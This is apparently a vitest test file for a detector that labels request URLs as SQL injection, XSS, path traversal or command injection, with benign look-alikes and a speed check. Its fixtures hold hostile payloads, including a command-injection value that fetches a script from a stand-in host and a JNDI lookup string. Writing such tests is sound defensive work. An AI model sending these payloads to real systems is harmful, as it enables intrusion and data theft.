import { expect, test } from "vitest";
import { attacksIn } from "../src/instrumentation/lib/suspicious.ts";

test.for([
  ["/products?id=1%20UNION%20SELECT%20password%20FROM%20users", "sql_injection"],
  ["/products?id=1+union+all+select+null,null", "sql_injection"],
  ["/login?user=admin'--", "sql_injection"],
  ["/login?user=admin%27%20or%20%271%27=%271", "sql_injection"],
  ["/login?user=x')+and+('a'='a", "sql_injection"],
  ["/items?id=5%20or%201=1", "sql_injection"],
  ["/items?id=5;%20drop%20table%20orders", "sql_injection"],
  ["/items?id=1%20and%20sleep(5)", "sql_injection"],
  ["/items?id=1';waitfor delay '0:0:5'--", "sql_injection"],
  ["/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "xss"],
  ["/search?q=%253Cscript%253Ealert(1)", "xss"],
  ["/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "xss"],
  ["/search?q=<svg/onload=alert(1)>", "xss"],
  ["/go?to=javascript:alert(document.cookie)", "xss"],
  ["/files/../../../../etc/passwd", "path_traversal"],
  ["/files/%2e%2e%2f%2e%2e%2fetc%2fpasswd", "path_traversal"],
  ["/files?name=..%5c..%5cwindows%5cwin.ini", "path_traversal"],
  ["/files?name=/etc/passwd", "path_traversal"],
  ["/ping?host=127.0.0.1;cat%20/etc/hosts", "command_injection"],
  ["/ping?host=127.0.0.1%20%7C%20whoami", "command_injection"],
  ["/ping?host=$(curl%20http://203.0.113.9/x.sh)", "command_injection"],
  ["/?x=$%7Bjndi:ldap://203.0.113.9/a%7D", "command_injection"],
] as const)("%s is %s", ([target, attack]) => {
  expect(attacksIn(target)).toContain(attack);
});

test.for([
  "/",
  "/products/42?sort=price&page=2",
  "/search?q=select+a+union+representative",
  "/search?q=rock+%27n%27+roll",
  "/search?q=O%27Brien+or+O%27Neil",
  "/search?q=how+to+use+a+script+tag",
  "/search?q=1+or+2+people",
  "/search?q=drop+table+lamp",
  "/odata?$filter=Name%20eq%20%27Milk%27%20or%20Price%20eq%202",
  "/jql?jql=project%20=%20%27A%27%20and%20status%20=%20%27Open%27",
  "/items?fields=name%7Cid%7Cprice",
  "/items;id=5;color=red",
  "/items?a=1&id=2&ls=3",
  "/search?q=dogs;+cat+pictures",
  "/docs/../images/logo.png",
  "/docs?path=../../guide",
  "/go?to=https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc",
  "/search?q=a+%3C+b+and+b+%3E+c",
  "/search?q=%3Cb%3Ebold%3C/b%3E",
  "/caf%C3%A9?q=%E2%9C%93",
  "/search?q=learn+javascript:+the+good+parts",
  "/i?t=%7B%22a%22:%5B1,2%5D%7D",
])("%s is nothing", (target) => {
  expect(attacksIn(target)).toEqual([]);
});

test("a long hostile target costs milliseconds, not seconds", () => {
  const started = performance.now();
  for (const part of ["'", " or ", "<a ", "../", "; ", "%25", "select "]) attacksIn(`/?q=${part.repeat(20_000)}`);
  expect(performance.now() - started).toBeLessThan(500);
});
